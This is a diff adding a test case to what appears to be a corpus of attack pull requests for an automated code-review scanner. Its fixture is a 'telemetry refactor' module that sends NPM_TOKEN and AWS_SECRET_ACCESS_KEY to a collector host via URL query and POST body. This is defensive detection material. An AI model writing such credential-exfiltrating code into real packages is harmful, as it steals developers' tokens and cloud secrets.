@@ -7590,4 +7590,43 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: ['needs_discussion', 'request_changes'], findings: ['remote-package-install', 'go-run-unpinned'] },
   },
+  {
+    id: 'attack-npm-token-in-url-query-and-state-field',
+    description:
+      'Modeled on the npm postinstall stealers of 2024-2026 that beacon a token in a URL\'s query: a "refactor telemetry" PR whose module puts NPM_TOKEN in a URL object\'s query (`url.searchParams.set(\'k\', process.env.NPM_TOKEN)`) in one function and fetches the URL in another, and keeps AWS_SECRET_ACCESS_KEY in a field of a module state object (`state.creds.k = …`) that a later function posts whole to the same collector.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74001,
+        title: 'refactor: tidy telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'lib/telemetry.js',
+            base: lines("'use strict';", '', 'module.exports = { start() {} };'),
+            head: lines(
+              "'use strict';",
+              "const https = require('https');",
+              '',
+              "const url = new URL('/v1/c', 'https://stats.pkg-insights.dev');",
+              'const state = { started: Date.now(), creds: {} };',
+              '',
+              'function collect() {',
+              "  url.searchParams.set('k', process.env.NPM_TOKEN || '');",
+              "  url.searchParams.set('v', process.version);",
+              "  state.creds.k = process.env.AWS_SECRET_ACCESS_KEY || '';",
+              '}',
+              '',
+              'function send() {',
+              '  https.get(url.href, () => {});',
+              "  fetch('https://stats.pkg-insights.dev/v1/s', { method: 'POST', body: JSON.stringify(state) }).catch(() => {});",
+              '}',
+              '',
+              'module.exports = { start() { collect(); send(); } };',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
 ];
